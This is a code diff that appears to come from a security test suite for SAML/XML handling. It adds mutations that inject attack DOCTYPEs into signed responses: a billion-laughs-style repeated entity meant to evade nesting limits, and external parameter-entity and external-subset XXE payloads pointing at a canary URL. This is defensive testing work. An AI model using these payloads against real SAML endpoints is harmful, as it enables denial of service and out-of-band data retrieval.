@@ -65,6 +65,35 @@ export function nestedEntities(): Mutation {
   };
 }
 
+/** One entity of a hundred thousand characters, a hundred times: no nesting that a limit of levels would notice. */
+export function repeatedEntity(): Mutation {
+  return {
+    afterSigning: (xml) => {
+      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&long;'.repeat(100));
+      return withDoctype(behindText, `<!ENTITY long "${'x'.repeat(100_000)}">`);
+    },
+  };
+}
+
+/** A parameter entity that names the canary: parsers load it while they read the subset, used or not. */
+export function parameterEntity(): Mutation {
+  return { afterSigning: (xml, { canaryUrl }) => withDoctype(xml, farParameter(canaryUrl)) };
+}
+
+/** The subset is said to stand at the canary. */
+export function externalSubset(): Mutation {
+  return { afterSigning: (xml, { canaryUrl }) => withDoctype(xml, '', ` SYSTEM "${escapeAttribute(canaryUrl)}"`) };
+}
+
+/** Both of these, as the text in front of an assertion that is encrypted. */
+export function doctypeOfCanary(canaryUrl: string): string {
+  return `<!DOCTYPE Assertion SYSTEM "${escapeAttribute(canaryUrl)}" [${farParameter(canaryUrl)}]>`;
+}
+
+function farParameter(url: string): string {
+  return `<!ENTITY % far SYSTEM "${escapeAttribute(url)}"> %far;`;
+}
+
 /** An external entity that names the canary stands behind the signed text of the NameID. */
 export function nameIdWithExternalEntity(): Mutation {
   return {
@@ -75,7 +104,7 @@ export function nameIdWithExternalEntity(): Mutation {
   };
 }
 
-function withDoctype(xml: string, subset = ''): string {
+function withDoctype(xml: string, subset = '', externalId = ''): string {
   const root = first(xml, 'Response');
-  return insertAt(xml, root.start, `<!DOCTYPE ${root.name}${subset === '' ? '' : ` [${subset}]`}>`);
+  return insertAt(xml, root.start, `<!DOCTYPE ${root.name}${externalId}${subset === '' ? '' : ` [${subset}]`}>`);
 }
